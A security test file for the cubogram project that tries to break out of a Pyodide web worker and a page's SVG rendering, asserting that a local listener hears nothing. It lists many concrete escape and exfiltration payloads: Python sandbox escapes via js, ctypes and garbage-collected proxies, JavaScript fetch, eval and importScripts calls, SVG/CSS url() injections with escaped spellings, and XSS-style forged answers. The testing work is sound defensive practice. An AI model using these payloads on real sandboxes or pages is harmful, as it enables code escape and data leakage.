# ruff: noqa: E501 (an attack is one line)
"""Attacks from a reader's cell on everything beyond it, while a server listens for what gets out.

The worker's page is served without headers, as the plainest host does: nothing but the seal (js/python/seal.ts)
holds the worker. What a cell shows is tried on a page of the book. Each attack is known to get out where there is no
seal.
"""

import itertools
import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from browsing import Sites
from playwright.sync_api import Browser, Page, expect
from probing import Listener, call, cell, eventually, heard, in_worker, run

from cubogram.live.display import shown
from cubogram.nonogram import Puzzle
from cubogram.pages.book.values import value_html

FETCHES = "fetch('ADDRESS?from-code').catch(() => {})"

BY_PYTHON = {
    "import js": "import js; js.fetch('ADDRESS')",
    "js by importlib": "import importlib; importlib.import_module('js').fetch('ADDRESS')",
    "js, its absence deleted": "import sys; del sys.modules['js']\nimport js; js.fetch('ADDRESS')",
    "pyodide_js": "import sys; del sys.modules['pyodide_js']\nimport pyodide_js; pyodide_js.loadPackage('ADDRESS')",
    "the import hook": "import sys\n[f.find_spec('js', None).loader for f in sys.meta_path if 'Js' in type(f).__name__][0]\nimport js",
    "jsfinder": "from _pyodide._importhook import jsfinder; jsfinder.jsproxies['js'].fetch('ADDRESS')",
    "run_js": "from pyodide.code import run_js; run_js(\"" + FETCHES + "\")",
    "run_js of the core": "import _pyodide_core; _pyodide_core.run_js(\"" + FETCHES + "\")",
    "run_js, an import": "from pyodide.code import run_js; run_js(\"import('ADDRESS')\")",
    "pyfetch": "from pyodide.http import pyfetch; pyfetch('ADDRESS').send(None)",
    "pyxhr": "from pyodide.http import pyxhr; pyxhr.get('ADDRESS')",
    "open_url": "from pyodide.http import open_url; open_url('ADDRESS')",
    "urllib": "from urllib.request import urlopen; urlopen('ADDRESS')",
    "http.client": "import http.client; http.client.HTTPConnection('HOST').request('GET', '/')",
    "a socket": "import socket; socket.create_connection(('localhost', PORT), 1).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "asyncio": "import asyncio; asyncio.open_connection('localhost', PORT).send(None)",
    "another program": "import os; os.system('curl ADDRESS') and 1 / 0\nimport subprocess; subprocess.run(['curl', 'ADDRESS'])",
    "the package loader": "import pyodide._package_loader as p; p.unpack_buffer",
    "ctypes, a script": "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"" + FETCHES + "\")",
    "ctypes, a download": "import ctypes\nctypes.CDLL(None).emscripten_async_wget(b'ADDRESS', b'/a', None, None)",
    "ctypes, another library": "import ctypes\nctypes.CDLL('ADDRESS')",
    "proxies in memory": "import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ == 'JsProxy']\n"
    "for one in found:\n    one.constructor.constructor('" + FETCHES.replace("'", '"') + "')()\n1 / (1 if found else 0)",
    "what a task posts with": "import gc\nfrom cubogram.web.worker import Task\n"
    "tasks = [o for o in gc.get_objects() if isinstance(o, Task)]\n"
    "posts = [getattr(t, n) for t in tasks for n in vars(t) if 'Js' in type(getattr(t, n)).__name__]\n"
    "posts[0].constructor('" + FETCHES.replace("'", '"') + "')()",
    "a proxy's prototypes": "import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ == 'JsProxy']\n"
    "found[0].__proto__.constructor('" + FETCHES.replace("'", '"') + "')()",
    "to_js and back": "from pyodide.ffi import to_js\nto_js({'a': 1}).constructor.constructor('" + FETCHES.replace("'", '"') + "')()",
    "a proxy of Python": "from pyodide.ffi import create_proxy\ncreate_proxy(print).constructor('1')()",
    "the event loop": "import asyncio\nasyncio.get_event_loop().run_in_executor(None, print).get_loop().js",
}  # fmt: skip
"""Python in a cell: each must end with an error."""
SILENT = ("the package loader", "ctypes, a download")
"""Except these, which do nothing."""

BY_SCRIPT = {
    "fetch": "fetch('ADDRESS')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'ADDRESS'); x.send()",
    "WebSocket": "new WebSocket('ws://HOST/')",
    "EventSource": "new EventSource('ADDRESS')",
    "WebTransport": "new WebTransport('https://HOST/')",
    "importScripts": "importScripts('ADDRESS')",
    "a worker": "new Worker('ADDRESS')",
    "a worker of a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('ADDRESS')`])))",
    "a shared worker": "new SharedWorker('ADDRESS')",
    "code from text": "Function(`fetch('ADDRESS')`)()",
    "code by a constructor": "(async () => {}).constructor(`return fetch('ADDRESS')`)()",
    "a timer with text": "setTimeout(`fetch('ADDRESS')`)",
    "eval": "(0, eval)(`fetch('ADDRESS')`)",
    "a font": "self.fonts.add(new FontFace('a', 'url(ADDRESS)'))",
    "a beacon": "navigator.sendBeacon('ADDRESS')",
    "caches": "caches.open('x')",
    "indexedDB": "indexedDB.open('x')",
    "files": "navigator.storage.getDirectory()",
    "cookies": "cookieStore.set('a', 'b')",
    "localStorage": "localStorage.setItem('a', 'b')",
    "a channel to other tabs": "new BroadcastChannel('x').postMessage(1)",
    "locks": "navigator.locks.query()",
    "the page": "parent.location.href",
    "navigation": "location.assign('ADDRESS')",
    "what is below the global object": "Object.getPrototypeOf(globalThis).fetch('ADDRESS')",
    "what Response holds": "Response.constructor(`fetch('ADDRESS')`)()",
    "what a port holds": "new MessageChannel().port1.constructor.constructor(`fetch('ADDRESS')`)()",
    "registration": "registration.update()",
}
"""Scripts in the worker, if somebody found a way to run one: each throws."""

SHOWN = {
    "an image": '<image href="ADDRESS"/><image xlink:href="ADDRESS"/>',
    "a use": '<use href="ADDRESS#a"/>',
    "a script": "<script>fetch('ADDRESS')</script>",
    "a handler": "<rect width='9' height='9' onload=\"fetch('ADDRESS')\" onclick=\"fetch('ADDRESS')\"/>",
    "a style sheet": "<style>@import url(ADDRESS); rect { fill: url(ADDRESS#a) }</style>",
    "a style": "<rect width='9' height='9' style='background: url(ADDRESS); fill: url(ADDRESS#a)'/>",
    "a fill": "<rect width='9' height='9' fill='url(ADDRESS#a)'/>",
    "a fill with escapes": "<rect width='9' height='9' fill='u\\72l(ADDRESS#a)'/>",
    "a fill with a comment": "<rect width='9' height='9' fill='url(/**/\"ADDRESS#a\")'/>",
    "a marker": "<path d='M0 0h9' marker-end='url( \"ADDRESS#a\" )'/>",
    "HTML inside": "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='ADDRESS'/></foreignObject>",
    "a frame inside": "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='ADDRESS'/></foreignObject>",
    "a link": "<a href='ADDRESS'><rect width='9' height='9'/></a>",
    "an animation": "<rect><set attributeName='fill' to='url(ADDRESS#a)'/><animate attributeName='href' values='ADDRESS'/></rect>",
    "a filter": "<filter id='f'><feImage href='ADDRESS'/></filter><rect filter='url(#f)' width='9' height='9'/>",
}  # fmt: skip
"""Pictures that a cell shows."""


OUT = [
    *("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts"),
    *("Worker", "SharedWorker", "caches", "indexedDB", "BroadcastChannel", "navigator"),
    *("location", "close", "postMessage", "eval", "FontFace", "Request"),
]
"""What the worker had before it was sealed."""
RENAME = """
globalThis.URL = String.bind(null, "http://localhost:1/stolen");
globalThis.Response = class extends Response { constructor() { super("something else"); } };
Object.prototype.method = "POST";
"""
WRITE = """
import cubogram.web, cubogram.web.cells
def write():
    return (yield {"need": {"write": "manifest.json"}, "data": b"{}"})
cubogram.web.cells.write = write
cubogram.web.COMMANDS["probe.write"] = "cells:write"
"""


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    made = Listener().start()
    yield made
    made.stop()


@pytest.fixture(scope="module")
def worker(
    browser: Browser,
    probe_folder: Path,
    tmp_path_factory: pytest.TempPathFactory,
    shared_sites: Sites,
) -> Iterator[Page]:
    """A page whose worker has run a reader's code, from a host that sends no headers."""
    folder = tmp_path_factory.mktemp("plain") / "site"
    shutil.copytree(probe_folder, folder)
    (folder / "_headers").unlink()
    context = browser.new_context()
    page = context.new_page()
    page.goto(shared_sites(folder).url + "probe.html")
    assert cell(page, "1") == "1"
    yield page
    context.close()


@pytest.fixture(scope="module")
def book(browser: Browser, shared_site: Sites) -> Iterator[Page]:
    """A page of the book, without a content policy: nothing but the page's own care holds what a cell shows."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    page.goto(f"{shared_site.url}learn/")
    yield page
    context.close()


def test_python_in_a_cell_gets_nowhere(worker: Page, listener: Listener) -> None:
    for number, (name, attack) in enumerate(BY_PYTHON.items()):
        result = call(worker, "cells.run", code=listener.aimed(attack, str(number))).get("result")
        if name not in SILENT:
            assert result is None or result["error"] is not None, (name, result)
        assert cell(worker, "6 * 7") == "42", name
    assert listener.heard(worker) == []


def test_a_script_in_the_worker_gets_nowhere(worker: Page, listener: Listener) -> None:
    assert in_worker(worker, f"{OUT}.filter((name) => name in globalThis)") == []
    scripts = [
        f"() => {{ {listener.aimed(code, str(n))} }}" for n, code in enumerate(BY_SCRIPT.values())
    ]
    each = "(act) => { try { act(); return 'reached'; } catch (error) { return String(error); } }"
    said = in_worker(worker, f"[{','.join(scripts)}].map({each})")
    assert [
        (name, text) for name, text in zip(BY_SCRIPT, said, strict=True) if "Error" not in text
    ] == []
    assert listener.heard(worker) == []


def picture(listener: Listener, name: str, number: int) -> str:
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    inside = f'{listener.aimed(SHOWN[name], str(number))}<circle r="3"/>'
    return f'<svg {spaces} viewBox="0 0 9 9">{inside}</svg>'


def test_the_same_gets_out_of_a_page_without_a_seal(browser: Browser, listener: Listener) -> None:
    """Otherwise the listener would hear nothing, whatever was tried."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(listener.aimed("ADDRESS", "page"))
    scripts = ("fetch", "XMLHttpRequest", "EventSource", "a worker", "a beacon")
    for number, name in enumerate(scripts):
        page.evaluate(f"() => {{ {listener.aimed(BY_SCRIPT[name], str(number))} }}")
    shown = ("an image", "a use", "HTML inside", "a style sheet", "a filter")
    pictures = [picture(listener, name, number) for number, name in enumerate(shown, len(scripts))]
    page.evaluate("svg => { document.body.innerHTML = svg; }", "".join(pictures))
    wanted = {f"/{number}" for number in range(len(scripts) + len(shown))}
    eventually(page, lambda: wanted <= {*listener.asked})
    listener.heard(page)
    context.close()


def test_what_a_reader_keeps_and_renames_reaches_nothing(worker: Page) -> None:
    """The worker fetches what it needs by what it had before, and keeps nothing for a reader's code."""
    before = worker.evaluate("caches.keys()")
    assert call(worker, "cells.run", code=WRITE)["result"]["error"] is None
    assert call(worker, "probe.write")["result"] == "a reader's code has run here"
    asked: list[str] = []
    worker.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
    in_worker(worker, RENAME)
    assert cell(worker, "import cubogram.scan\ncubogram.scan.__name__") == "'cubogram.scan'"
    call(worker, "twophase.solve", state="R U F", seconds=0.1)
    ours = f"GET {worker.url.removesuffix('probe.html')}"
    assert asked
    assert all(one.startswith(ours) for one in asked)
    assert heard(worker, "lost") == []
    assert worker.evaluate("caches.keys()") == before
    worker.reload()
    assert cell(worker, "1") == "1"


# What a cell shows

PUZZLES = [
    Puzzle([[1], [3]], [[1], [2], [1]]),
    Puzzle.from_picture(["#"]),
    Puzzle.from_picture(["."]),
    Puzzle.from_picture(["....", "#.#.", "...."]),
    Puzzle.from_picture(["#" * 30, "#." * 15], title='"Teeth" & <gums>; 1'),
    Puzzle.from_picture(["11.22", ".3.3."], ["black", "#d5372c", "lime"], title="Colours"),
    Puzzle.from_picture(["12345678"], [f"#10{n}0{n}0" for n in range(8)]),
]
OF_ELEMENT = """async (element) => {
  await customElements.whenDefined("cubogram-nonogram");
  const { rows, columns, colours } = element.game.puzzle;
  const title = element.getAttribute("title-text") ?? "";
  const plain = (clues) => clues.map((clue) => clue.map(({ length, colour }) => [length, colour]));
  return JSON.stringify([plain(rows), plain(columns), title, colours.length]);
}"""
SHOWS = f"""async (facts) => {{
  const element = document.querySelector(".cell-result[data-alive] cubogram-nonogram");
  return element && (await ({OF_ELEMENT})(element)) === facts;
}}"""
WRITTEN = f"""async (text) => {{
  document.querySelector("#written")?.remove();
  document.body.insertAdjacentHTML("beforeend", `<div id="written">${{text}}</div>`);
  return await ({OF_ELEMENT})(document.querySelector("#written > *"));
}}"""


def test_a_puzzle_is_shown_as_it_is_by_a_cell_and_by_the_build(
    book: Page, until: Callable[..., None]
) -> None:
    for puzzle in PUZZLES:
        told = [puzzle.rows, puzzle.columns, puzzle.title, len(puzzle.colours)]
        facts = json.dumps(told, separators=(",", ":"))
        result = run(book, f"from cubogram.nonogram import Puzzle\n{puzzle!r}")
        until(book, SHOWS, facts)
        expect(result.locator("cubogram-nonogram")).to_have_count(1)
        value = shown(puzzle)
        assert value is not None
        assert book.evaluate(WRITTEN, str(value_html(value, ""))) == facts


LETTERS = {
    letter: [letter, letter.upper(), *(f"\\{ord(letter):{form}} " for form in ("x", "06X"))]
    for letter in "url"
}
"""The ways in which CSS may write the letters of its word for an address."""
ATTRIBUTES = ("clip-path", "fill", "stroke", "marker-start")


def showing(svg: str) -> str:
    return f"class Picture:\n    def _repr_svg_(self): return {svg!r}\nPicture()"


def test_pictures_in_a_cell_fetch_nothing(book: Page, listener: Listener) -> None:
    for number, name in enumerate(SHOWN):
        result = run(book, showing(picture(listener, name, number)))
        expect(result.locator("circle")).to_have_count(1)
        inside = result.locator("cell-picture").evaluate("e => (e.shadowRoot ?? e).innerHTML")
        assert listener.aimed("HOST") not in inside, name
    assert listener.heard(book) == []


def test_no_way_of_writing_an_address_in_a_picture_reaches_outside(book: Page) -> None:
    words = ["".join(letters) for letters in itertools.product(*LETTERS.values())]
    values = [
        f"{word}({quote}{place}#p{quote})"
        for word in words
        for quote in ("", "'")
        for place in ("https://elsewhere.example/a.svg", r"\68ttps://elsewhere.example/a.svg")
    ]
    asked: list[str] = []
    book.on("request", lambda request: asked.append(request.url))
    paths = "".join(
        f'<path d="M0 0h9v9" {name}="{value}"/>' for name in ATTRIBUTES for value in values
    )
    inside = "".join(f'<path d="M0 0h9v9" {name}="url(#p)"/>' for name in ATTRIBUTES)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{paths}{inside}</svg>'
    result = run(book, showing(svg))
    expect(result.locator("path")).to_have_count(len(ATTRIBUTES) * (len(values) + 1))
    seen = result.locator("path").evaluate_all(
        "(paths, names) => paths.map((path) => names.map((one) => getComputedStyle(path).getPropertyValue(one)).join())",
        list(ATTRIBUTES),
    )
    assert all(
        "#p" in text for text in seen[-len(ATTRIBUTES) :]
    )  # what is inside the picture stays
    assert [text for text in seen if re.search("elsewhere", text)] == []
    assert [text for text in seen[: -len(ATTRIBUTES)] if "url" in text] == []
    assert [address for address in asked if "elsewhere" in address] == []


FORGED = """
from cubogram.live import display
def shown(value):
    return {VALUE}
display.shown = shown
import cubogram.web.cells as cells
for name, one in list(vars(cells).items()):
    if getattr(one, "__name__", "") == "shown": setattr(cells, name, shown)
1
"""
ANSWERS = [
    {"kind": "text", "text": "<img src=ADDRESS>"},
    {"kind": "svg", "svg": "<img src=ADDRESS>"},
    {"kind": "cube", "facelets": '"><img src=ADDRESS>'},
    {"kind": "maneuver", "setup": "R'><img src=ADDRESS>", "text": '"><img src=ADDRESS>'},
    {
        "kind": "nonogram",
        "rows": '"><img src=ADDRESS>',
        "columns": "1",
        "colours": "url(ADDRESS)",
        "title-text": "<img src=ADDRESS>",
    },
    {"kind": "table", "rows": [["<img src=ADDRESS>"]], "moreRows": 0, "moreColumns": 0},
    {"kind": "table", "rows": [["a"]], "moreRows": "<img src=ADDRESS>", "moreColumns": 0},
    {"kind": "row", "parts": [{"kind": "svg", "svg": "<svg><image href='ADDRESS'/></svg>"}]},
    {"kind": "ADDRESS"},
]
"""Answers that the page must not take for what they say they are."""


def test_forged_answers_of_a_cell_show_text_only(book: Page, listener: Listener) -> None:
    """Python in the cell replaces what makes its answers: the page trusts none of them."""
    for number, answer in enumerate(ANSWERS):
        forged = json.loads(listener.aimed(json.dumps(answer), str(number)))
        run(book, FORGED.replace("{VALUE}", repr(forged)))
        run(book, "2")
        active = book.locator(".cell-result[data-alive]").locator("img, image, script")
        assert active.count() == 0, answer
    assert listener.heard(book) == []
    book.reload()
